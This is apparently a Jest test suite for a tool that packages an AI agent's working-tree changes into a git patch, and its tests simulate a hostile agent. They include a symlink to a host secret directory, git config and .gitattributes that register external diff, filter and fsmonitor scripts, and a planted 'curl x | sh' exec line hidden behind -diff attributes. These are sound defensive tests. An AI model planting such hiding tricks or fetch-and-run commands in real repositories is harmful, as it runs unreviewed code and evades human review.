import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import { execFileSync, spawnSync } from 'node:child_process'
import { randomBytes } from 'node:crypto'
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readlinkSync,
  rmSync,
  statSync,
  symlinkSync,
  unlinkSync,
  writeFileSync
} from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { createPatch, stagePatch, type ChangedFile, type PatchResult } from '../../src/git/patch.js'
import { snapshotUntracked } from '../../src/git/untracked-baseline.js'

// Test-side git: never the developer's own configuration, a fixed identity.
const testGitEnv = (extra: Record<string, string> = {}): NodeJS.ProcessEnv => ({
  PATH: process.env.PATH,
  HOME: scratch,
  GIT_CONFIG_NOSYSTEM: '1',
  GIT_CONFIG_GLOBAL: '/dev/null',
  GIT_AUTHOR_NAME: 'Test',
  GIT_AUTHOR_EMAIL: 'test@example.invalid',
  GIT_COMMITTER_NAME: 'Test',
  GIT_COMMITTER_EMAIL: 'test@example.invalid',
  LC_ALL: 'C',
  ...extra
})

function git(cwd: string, args: string[], extra: Record<string, string> = {}): Buffer {
  return execFileSync('git', ['-c', 'init.defaultBranch=main', ...args], {
    cwd,
    env: testGitEnv(extra),
    stdio: ['ignore', 'pipe', 'pipe']
  })
}

const gitText = (cwd: string, args: string[], extra: Record<string, string> = {}): string =>
  git(cwd, args, extra).toString('utf8').trim()

let scratch = ''
let counter = 0

function freshDir(name: string): string {
  const dir = path.join(scratch, `${name}-${counter++}`)
  mkdirSync(dir, { recursive: true })
  return dir
}

function write(root: string, file: string, content: string | Buffer): void {
  mkdirSync(path.dirname(path.join(root, file)), { recursive: true })
  writeFileSync(path.join(root, file), content)
}

/** The tree of a working tree's full content, computed in an index of its own. */
function worktreeTree(root: string): string {
  const index = path.join(freshDir('index'), 'index')
  const env = { GIT_INDEX_FILE: index }
  const head = spawnSync('git', ['rev-parse', '--verify', '--quiet', 'HEAD'], {
    cwd: root,
    env: testGitEnv()
  })
  git(root, head.status === 0 ? ['read-tree', 'HEAD'] : ['read-tree', '--empty'], env)
  git(root, ['add', '--all'], env)
  return gitText(root, ['write-tree'], env)
}

function realIndexBytes(root: string): Buffer | undefined {
  const index = path.join(root, '.git', 'index')
  return existsSync(index) ? readFileSync(index) : undefined
}

function byPath(files: ChangedFile[]): Map<string, ChangedFile> {
  return new Map(files.map(file => [file.path, file]))
}

beforeAll(() => {
  scratch = mkdtempSync(path.join(tmpdir(), 'patch-test-'))
})

afterAll(() => {
  rmSync(scratch, { recursive: true, force: true })
})

const BINARY = Buffer.concat([Buffer.from([0, 1, 2, 0, 255, 0]), randomBytes(4090)])
const SPACED = 'docs/name with spaces ü ✓.txt'
const NEWLINE = 'odd/line\nbreak.txt'
const COLON_TAB = 'odd/:colon\tand tab.txt'
const SECRET = 'host-secret-that-must-not-be-read'

describe('createPatch on an agent-modified working tree', () => {
  let workspace = ''
  let outside = ''
  let result: PatchResult
  let indexBefore: Buffer | undefined
  let lsFilesBefore = ''
  let headBefore = ''

  beforeAll(async () => {
    workspace = freshDir('workspace')
    outside = freshDir('outside')
    write(outside, 'inside.txt', `${SECRET}\n`)
    git(workspace, ['init', '-q'])
    write(workspace, 'edit.txt', 'one\ntwo\nthree\n')
    write(workspace, 'delete-me.txt', 'bye\n')
    write(workspace, 'script.sh', '#!/bin/sh\necho hi\n')
    write(
      workspace,
      'rename-me.txt',
      'a line long enough to be found again after a rename\n'.repeat(5)
    )
    write(workspace, '.gitignore', '*.log\n')
    write(workspace, 'secret-dir/inside.txt', 'tracked\n')
    git(workspace, ['add', '--all'])
    git(workspace, ['commit', '-q', '-m', 'initial'])
    indexBefore = realIndexBytes(workspace)
    lsFilesBefore = gitText(workspace, ['ls-files', '-s', '-z'])
    headBefore = gitText(workspace, ['rev-parse', 'HEAD'])

    // What an agent leaves behind.
    write(workspace, 'edit.txt', 'one\nTWO\nthree\nfour\nfive\n')
    write(workspace, 'new.txt', 'fresh\nfile\n')
    write(workspace, 'image.bin', BINARY)
    unlinkSync(path.join(workspace, 'delete-me.txt'))
    chmodSync(path.join(workspace, 'script.sh'), 0o755)
    symlinkSync('edit.txt', path.join(workspace, 'link-to-edit'))
    mkdirSync(path.join(workspace, 'keep'))
    symlinkSync('../new.txt', path.join(workspace, 'keep/up'))
    mkdirSync(path.join(workspace, 'renamed/dir'), { recursive: true })
    execFileSync('mv', ['rename-me.txt', 'renamed/dir/moved.txt'], { cwd: workspace })
    write(workspace, 'debug.log', 'ignored\n')
    write(workspace, SPACED, 'unicode\n')
    write(workspace, NEWLINE, 'newline in the name\n')
    write(workspace, COLON_TAB, 'colon and tab\n')
    // A tracked directory swapped for a link to a host directory: recorded as a link, not read.
    rmSync(path.join(workspace, 'secret-dir'), { recursive: true })
    symlinkSync(outside, path.join(workspace, 'secret-dir'))

    result = await createPatch(workspace, path.join(scratch, 'out', 'change.patch'))
  })

  it('describes every change with status, modes, counts, sizes and symlink targets', () => {
    const files = byPath(result.files)
    expect([...files.keys()].sort()).toEqual(
      [
        'delete-me.txt',
        'edit.txt',
        'image.bin',
        'keep/up',
        'link-to-edit',
        'new.txt',
        'renamed/dir/moved.txt',
        'script.sh',
        'secret-dir',
        'secret-dir/inside.txt',
        SPACED,
        NEWLINE,
        COLON_TAB
      ].sort()
    )
    expect(result.hasChanges).toBe(true)
    expect(result.baseCommit).toBe(headBefore)
    expect(result.embeddedRepositories).toEqual([])

    expect(files.get('edit.txt')).toMatchObject({
      status: 'modified',
      insertions: 3,
      deletions: 1,
      binary: false,
      oldMode: '100644',
      newMode: '100644',
      size: 'one\nTWO\nthree\nfour\nfive\n'.length
    })
    expect(files.get('new.txt')).toMatchObject({ status: 'added', insertions: 2, deletions: 0 })
    expect(files.get('new.txt')?.oldMode).toBeUndefined()
    expect(files.get('image.bin')).toMatchObject({
      status: 'added',
      binary: true,
      insertions: 0,
      deletions: 0,
      newMode: '100644',
      size: BINARY.length
    })
    const deleted = files.get('delete-me.txt')
    expect(deleted).toMatchObject({ status: 'deleted', deletions: 1, oldMode: '100644' })
    expect(deleted?.newMode).toBeUndefined()
    expect(deleted?.newSha).toBeUndefined()
    expect(deleted?.size).toBeUndefined()
    expect(files.get('script.sh')).toMatchObject({
      status: 'modified',
      oldMode: '100644',
      newMode: '100755',
      insertions: 0,
      deletions: 0
    })
    expect(files.get('link-to-edit')).toMatchObject({
      status: 'added',
      newMode: '120000',
      symlinkTarget: 'edit.txt',
      size: 'edit.txt'.length
    })
    expect(files.get('keep/up')).toMatchObject({ newMode: '120000', symlinkTarget: '../new.txt' })
    expect(files.get('renamed/dir/moved.txt')).toMatchObject({
      status: 'renamed',
      oldPath: 'rename-me.txt',
      insertions: 0,
      deletions: 0
    })
    expect(files.get('secret-dir')).toMatchObject({
      status: 'added',
      newMode: '120000',
      symlinkTarget: outside
    })
    expect(files.get('secret-dir/inside.txt')?.status).toBe('deleted')
    for (const name of [SPACED, NEWLINE, COLON_TAB]) {
      expect(files.get(name)).toMatchObject({ status: 'added', insertions: 1 })
    }
    expect(result.insertions).toBe(result.files.reduce((sum, file) => sum + file.insertions, 0))
    expect(result.deletions).toBe(result.files.reduce((sum, file) => sum + file.deletions, 0))
    expect(result.insertions).toBe(3 + 2 + 1 + 1 + 1 + 1 + 1 + 1) // edits, new files, two links
  })

  it('records links as links and never reads through them, and leaves ignored files out', () => {
    const patch = readFileSync(result.patchPath)
    expect(patch.includes(SECRET)).toBe(false)
    expect(patch.includes('debug.log')).toBe(false)
    expect(patch.includes('new file mode 120000')).toBe(true)
  })

  it('applies with git apply --binary to a clone and reproduces the working tree exactly', () => {
    const clone = freshDir('clone')
    git(scratch, ['clone', '-q', workspace, clone])
    git(clone, ['apply', '--binary', result.patchPath])

    expect(worktreeTree(clone)).toBe(worktreeTree(workspace))
    expect(worktreeTree(clone)).toBe(result.tree)
    expect(readFileSync(path.join(clone, 'image.bin')).equals(BINARY)).toBe(true)
    expect(readlinkSync(path.join(clone, 'link-to-edit'))).toBe('edit.txt')
    expect(readlinkSync(path.join(clone, 'secret-dir'))).toBe(outside)
    expect(statSync(path.join(clone, 'script.sh')).mode & 0o111).not.toBe(0)
    expect(readFileSync(path.join(clone, NEWLINE), 'utf8')).toBe('newline in the name\n')
    expect(existsSync(path.join(clone, 'delete-me.txt'))).toBe(false)
  })

  it('leaves the real index and HEAD untouched', () => {
    expect(realIndexBytes(workspace)?.equals(indexBefore ?? Buffer.alloc(0))).toBe(true)
    expect(gitText(workspace, ['ls-files', '-s', '-z'])).toBe(lsFilesBefore)
    expect(gitText(workspace, ['rev-parse', 'HEAD'])).toBe(headBefore)
  })

  it('stages the patch in a fresh clone with the same files, blob ids and bytes', async () => {
    const clone = freshDir('stage-clone')
    git(scratch, ['clone', '-q', workspace, clone])
    const cloneIndex = realIndexBytes(clone)

    const staged = await stagePatch(clone, result.patchPath)

    expect(staged.files).toEqual(result.files)
    expect(staged.tree).toBe(result.tree)
    expect(staged.baseCommit).toBe(headBefore)
    expect(staged.insertions).toBe(result.insertions)
    expect((await staged.readBlob('image.bin')).equals(BINARY)).toBe(true)
    expect((await staged.readBlob('link-to-edit')).toString('utf8')).toBe('edit.txt')
    expect((await staged.readBlob(NEWLINE)).toString('utf8')).toBe('newline in the name\n')
    await expect(staged.readBlob('delete-me.txt')).rejects.toThrow(/no new content/)
    // Neither the clone's working tree nor its index moved.
    expect(gitText(clone, ['status', '--porcelain'])).toBe('')
    expect(realIndexBytes(clone)?.equals(cloneIndex ?? Buffer.alloc(0))).toBe(true)
  })

  it('refuses to stage a patch that does not fit its base', async () => {
    const other = freshDir('other')
    git(other, ['init', '-q'])
    write(other, 'edit.txt', 'something else entirely\n')
    git(other, ['add', '--all'])
    git(other, ['commit', '-q', '-m', 'unrelated'])
    await expect(stagePatch(other, result.patchPath)).rejects.toThrow(/git apply failed/)
  })
})

describe('createPatch edge cases', () => {
  it('writes an empty patch and reports no changes when nothing changed', async () => {
    const workspace = freshDir('unchanged')
    git(workspace, ['init', '-q'])
    write(workspace, 'a.txt', 'a\n')
    git(workspace, ['add', '--all'])
    git(workspace, ['commit', '-q', '-m', 'initial'])
    const patchPath = path.join(freshDir('out'), 'empty.patch')
    writeFileSync(patchPath, 'stale content from an earlier run')

    const result = await createPatch(workspace, patchPath)

    expect(result.hasChanges).toBe(false)
    expect(result.files).toEqual([])
    expect(result.insertions).toBe(0)
    expect(result.deletions).toBe(0)
    expect(statSync(patchPath).size).toBe(0)
    const staged = await stagePatch(workspace, patchPath)
    expect(staged.files).toEqual([])
  })

  it('works in a repository without commits, against the empty tree', async () => {
    const workspace = freshDir('unborn')
    git(workspace, ['init', '-q'])
    write(workspace, 'first.txt', 'first\n')
    write(workspace, 'bin/tool', '#!/bin/sh\n')
    chmodSync(path.join(workspace, 'bin/tool'), 0o755)
    symlinkSync('first.txt', path.join(workspace, 'alias'))

    const result = await createPatch(workspace, path.join(freshDir('out'), 'unborn.patch'))

    expect(result.baseCommit).toBeUndefined()
    expect(result.files.map(file => [file.path, file.status, file.newMode])).toEqual([
      ['alias', 'added', '120000'],
      ['bin/tool', 'added', '100755'],
      ['first.txt', 'added', '100644']
    ])
    const target = freshDir('unborn-target')
    git(target, ['init', '-q'])
    git(target, ['apply', '--binary', result.patchPath])
    expect(worktreeTree(target)).toBe(result.tree)
    const staged = await stagePatch(target, result.patchPath)
    expect(staged.tree).toBe(result.tree)
    expect(staged.baseCommit).toBeUndefined()
  })

  it('keeps files outside a sparse checkout instead of deleting them', async () => {
    const workspace = freshDir('sparse')
    git(workspace, ['init', '-q'])
    write(workspace, 'in/a.txt', 'a\n')
    write(workspace, 'out/b.txt', 'b\n')
    git(workspace, ['add', '--all'])
    git(workspace, ['commit', '-q', '-m', 'initial'])
    git(workspace, ['sparse-checkout', 'set', 'in'])
    expect(existsSync(path.join(workspace, 'out/b.txt'))).toBe(false)
    write(workspace, 'in/a.txt', 'changed\n')

    const result = await createPatch(workspace, path.join(freshDir('out'), 'sparse.patch'))

    expect(result.files.map(file => [file.path, file.status])).toEqual([['in/a.txt', 'modified']])
  })

  it('leaves out directories that hold their own repository, and says so', async () => {
    const workspace = freshDir('embedded')
    git(workspace, ['init', '-q'])
    write(workspace, 'a.txt', 'a\n')
    git(workspace, ['add', '--all'])
    git(workspace, ['commit', '-q', '-m', 'initial'])
    write(workspace, 'scaffold/app.js', 'app\n')
    git(path.join(workspace, 'scaffold'), ['init', '-q'])
    write(workspace, 'committed/lib.js', 'lib\n')
    git(path.join(workspace, 'committed'), ['init', '-q'])
    git(path.join(workspace, 'committed'), ['add', '--all'])
    git(path.join(workspace, 'committed'), ['commit', '-q', '-m', 'inner'])
    write(workspace, 'b.txt', 'b\n')

    const result = await createPatch(workspace, path.join(freshDir('out'), 'embedded.patch'))

    expect(result.files.map(file => file.path)).toEqual(['b.txt'])
    expect(result.embeddedRepositories.sort()).toEqual(['committed', 'scaffold'])
  })

  it('names a directory that is not a repository as the cause', async () => {
    await expect(createPatch(freshDir('plain'), path.join(scratch, 'x.patch'))).rejects.toThrow(
      /is not a git working tree/
    )
  })
})

describe('createPatch against hostile git configuration', () => {
  const saved: Record<string, string | undefined> = {}
  const keys = ['HOME', 'GIT_CONFIG_GLOBAL', 'XDG_CONFIG_HOME', 'GIT_EXTERNAL_DIFF']
  let home = ''
  let marker = ''

  beforeAll(() => {
    home = freshDir('hostile-home')
    marker = path.join(home, 'ran.log')
    const script = (name: string): string => {
      const file = path.join(home, `${name}.sh`)
      writeFileSync(file, `#!/bin/sh\necho ${name} >> '${marker}'\ncat\n`)
      chmodSync(file, 0o755)
      return file
    }
    const config = [
      '[diff]',
      `\texternal = ${script('global-external-diff')}`,
      '[diff "evil"]',
      `\tcommand = ${script('global-diff-driver')}`,
      `\ttextconv = ${script('global-textconv')}`,
      '[filter "evil"]',
      `\tclean = ${script('global-clean-filter')}`,
      '[core]',
      `\tfsmonitor = ${script('global-fsmonitor')}`,
      ''
    ].join('\n')
    writeFileSync(path.join(home, '.gitconfig'), config)
    mkdirSync(path.join(home, 'xdg', 'git'), { recursive: true })
    writeFileSync(path.join(home, 'xdg', 'git', 'config'), config)
    for (const key of keys) saved[key] = process.env[key]
    process.env.HOME = home
    process.env.GIT_CONFIG_GLOBAL = path.join(home, '.gitconfig')
    process.env.XDG_CONFIG_HOME = path.join(home, 'xdg')
    process.env.GIT_EXTERNAL_DIFF = script('env-external-diff')
  })

  afterAll(() => {
    for (const key of keys) {
      if (saved[key] === undefined) delete process.env[key]
      else process.env[key] = saved[key]
    }
  })

  it('runs no external diff, textconv, filter or fsmonitor from any config', async () => {
    const workspace = freshDir('hostile')
    git(workspace, ['init', '-q'])
    write(workspace, 'code.txt', 'original line\n')
    git(workspace, ['add', '--all'])
    git(workspace, ['commit', '-q', '-m', 'initial'])
    // The repository's own config (trusted, but still not allowed to run programs on a diff).
    git(workspace, ['config', 'diff.evil.textconv', path.join(home, 'global-textconv.sh')])
    git(workspace, ['config', 'diff.evil.command', path.join(home, 'global-diff-driver.sh')])
    // What the agent plants in the working tree.
    write(workspace, '.gitattributes', '* diff=evil filter=evil\n')
    write(workspace, 'code.txt', 'changed line\n')

    // Control: plain git with this process's environment runs the planted programs, so the
    // marker below would catch createPatch doing the same.
    spawnSync('git', ['diff', 'HEAD'], { cwd: workspace, env: process.env })
    expect(readFileSync(marker, 'utf8')).toMatch(/global-|env-/)
    rmSync(marker)

    const result = await createPatch(workspace, path.join(freshDir('out'), 'hostile.patch'))

    expect(existsSync(marker)).toBe(false)
    const patch = readFileSync(result.patchPath, 'utf8')
    expect(patch).toContain('-original line\n+changed line\n')
    expect(result.files.map(file => file.path).sort()).toEqual(['.gitattributes', 'code.txt'])
  })
})

/** A minimal real PNG (8x8, one colour): it holds NUL bytes in its first 8,000, as PNGs do. */
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAgAAAAIAQMAAAD+wSzIAAAABlBMVEX///+/v7+jQ3Y5AAAADklEQVQI12P4AIX8EAgALgAD/aNpbtIAAAAASUVORK5CYII=',
  'base64'
)

/** A fresh clone of `workspace` at HEAD, the patch applied with git apply --binary. */
function applyToClone(workspace: string, patchPath: string): string {
  const clone = freshDir('clone')
  git(scratch, ['clone', '-q', workspace, clone])
  git(clone, ['apply', '--binary', patchPath])
  return clone
}

describe('diffs decided by content, whatever .gitattributes says', () => {
  let workspace = ''
  let result: PatchResult
  let patch = ''
  const CRLF = 'first line\r\nsecond line\r\n'

  beforeAll(async () => {
    workspace = freshDir('attributes')
    git(workspace, ['init', '-q'])
    write(workspace, 'app.js', 'console.log("hi")\n')
    write(workspace, 'docs/.gitattributes', '*.md text eol=lf\n')
    git(workspace, ['add', '--all'])
    git(workspace, ['commit', '-q', '-m', 'initial'])

    // The agent hides its line behind attributes, at the root and in a subdirectory.
    write(workspace, '.gitattributes', '*.js -diff\n*.txt binary\n*.png diff=plain\n')
    write(workspace, 'docs/.gitattributes', '*.md -diff linguist-generated\n')
    write(workspace, 'app.js', 'console.log("hi")\nrequire("child_process").exec("curl x | sh")\n')
    write(workspace, 'notes.txt', 'plain words\n')
    write(workspace, 'docs/readme.md', '# hidden?\n')
    write(workspace, 'windows.txt', CRLF)
    write(workspace, 'logo.png', PNG)
    result = await createPatch(workspace, path.join(freshDir('out'), 'attributes.patch'))
    patch = readFileSync(result.patchPath, 'utf8')
  })

  it('shows every text file as text in the patch and counts its lines', () => {
    expect(patch).toContain('+require("child_process").exec("curl x | sh")')
    expect(patch).toContain('+plain words')
    expect(patch).toContain('+# hidden?')
    expect(patch).toContain('+first line\r\n')
    const files = byPath(result.files)
    expect(files.get('app.js')).toMatchObject({ binary: false, insertions: 1, deletions: 0 })
    expect(files.get('notes.txt')).toMatchObject({ binary: false, insertions: 1 })
    expect(files.get('docs/readme.md')).toMatchObject({ binary: false, insertions: 1 })
  })

  it('still shows a real binary file (a PNG) as binary', () => {
    expect(byPath(result.files).get('logo.png')?.binary).toBe(true)
    expect(patch).toMatch(/^diff --git a\/logo\.png b\/logo\.png\n(?:.*\n)*?GIT binary patch$/m)
  })

  it('applies byte-exact with git apply --binary: CRLF, PNG and all', () => {
    const clone = applyToClone(workspace, result.patchPath)
    expect(readFileSync(path.join(clone, 'windows.txt'), 'latin1')).toBe(CRLF)
    expect(readFileSync(path.join(clone, 'logo.png')).equals(PNG)).toBe(true)
    expect(worktreeTree(clone)).toBe(result.tree)
    expect(worktreeTree(clone)).toBe(worktreeTree(workspace))
  })

  it('stages to the same tree with the same view of the files', async () => {
    const staged = await stagePatch(workspace, result.patchPath)
    expect(staged.tree).toBe(result.tree)
    expect(byPath(staged.files).get('app.js')?.binary).toBe(false)
    expect((await staged.readBlob('windows.txt')).toString('latin1')).toBe(CRLF)
  })
})

describe('files over the size limit', () => {
  const LIMIT = 64 * 1024
  let workspace = ''
  let result: PatchResult
  let patch = ''

  beforeAll(async () => {
    workspace = freshDir('large')
    git(workspace, ['init', '-q'])
    write(workspace, 'src/fix.py', 'x = 1\n')
    write(workspace, 'assets/big-committed.bin', randomBytes(LIMIT * 2))
    write(workspace, 'assets/big-edited.bin', randomBytes(LIMIT * 2))
    git(workspace, ['add', '--all'])
    git(workspace, ['commit', '-q', '-m', 'initial'])

    write(workspace, 'src/fix.py', 'x = 2\n')
    write(workspace, 'build/out.bin', randomBytes(LIMIT * 3))
    write(workspace, 'build/odd "name"\n.bin', randomBytes(LIMIT + 1))
    write(workspace, 'build/just-fits.bin', randomBytes(LIMIT))
    write(workspace, 'assets/big-edited.bin', randomBytes(LIMIT * 2))
    // A file already there and unchanged, with a fresh mtime (as a build tool might leave it).
    const committed = readFileSync(path.join(workspace, 'assets/big-committed.bin'))
    write(workspace, 'assets/big-committed.bin', committed)
    result = await createPatch(workspace, path.join(freshDir('out'), 'large.patch'), {
      maxFileBytes: LIMIT
    })
    patch = readFileSync(result.patchPath, 'utf8')
  })

  it('leaves them out of the patch and lists the changed ones with their sizes', () => {
    expect(result.files.map(f => f.path).sort()).toEqual(['build/just-fits.bin', 'src/fix.py'])
    expect(result.leftOut).toEqual(
      expect.arrayContaining([
        { path: 'build/out.bin', size: LIMIT * 3 },
        { path: 'build/odd "name"\n.bin', size: LIMIT + 1 },
        { path: 'assets/big-edited.bin', size: LIMIT * 2 }
      ])
    )
    expect(result.leftOut).toHaveLength(3)
  })

  it('names them in a preamble git apply skips, and the rest applies', () => {
    expect(patch.split('\n').slice(0, 2).join('\n')).toMatch(
      /^# Left out of this patch: 3 files over max-file-size/
    )
    expect(patch).toContain(`# left-out ${LIMIT * 3} "build/out.bin"`)
    expect(patch).toContain('# left-out 65537 "build/odd \\"name\\"\\n.bin"')
    const clone = applyToClone(workspace, result.patchPath)
    expect(readFileSync(path.join(clone, 'src/fix.py'), 'utf8')).toBe('x = 2\n')
    expect(existsSync(path.join(clone, 'build/out.bin'))).toBe(false)
  })

  it('stages the patch (preamble and all) to the tree createPatch made', async () => {
    const staged = await stagePatch(workspace, result.patchPath)
    expect(staged.tree).toBe(result.tree)
  })
})

describe('untracked files from before the agent ran', () => {
  let workspace = ''
  let result: PatchResult

  beforeAll(async () => {
    workspace = freshDir('baseline')
    git(workspace, ['init', '-q'])
    write(workspace, 'src/app.py', 'x = 1\n')
    git(workspace, ['add', '-A'])
    git(workspace, ['commit', '-q', '-m', 'base'])
    // What the job's earlier steps left behind, in a repository that does not ignore it.
    write(workspace, '.venv/bin/python', '#!/bin/sh\n')
    write(workspace, '.venv/lib/site.py', 'site = 1\n')
    write(workspace, 'notes.txt', 'before\n')
    const before = await snapshotUntracked(workspace)
    expect(before.entries.size).toBe(3)
    // The agent: fixes the code, edits one of those files, and creates a new one.
    write(workspace, 'src/app.py', 'x = 2\n')
    write(workspace, 'notes.txt', 'before, and the agent was here\n')
    write(workspace, 'new.txt', 'new\n')
    result = await createPatch(workspace, path.join(freshDir('baseline-out'), 'p.patch'), {
      untrackedBefore: before
    })
  })

  it('leaves out what the agent did not touch, and keeps what it changed or created', () => {
    expect(result.files.map(f => f.path).sort()).toEqual(['new.txt', 'notes.txt', 'src/app.py'])
    expect(result.preexistingUntracked).toBe(2)
  })

  it('publishes the whole untracked tree when no baseline is given (the old behaviour)', async () => {
    const all = await createPatch(workspace, path.join(freshDir('baseline-all'), 'p.patch'))
    expect(all.files.map(f => f.path)).toEqual(
      expect.arrayContaining(['.venv/bin/python', '.venv/lib/site.py'])
    )
    expect(all.preexistingUntracked).toBe(0)
  })
})
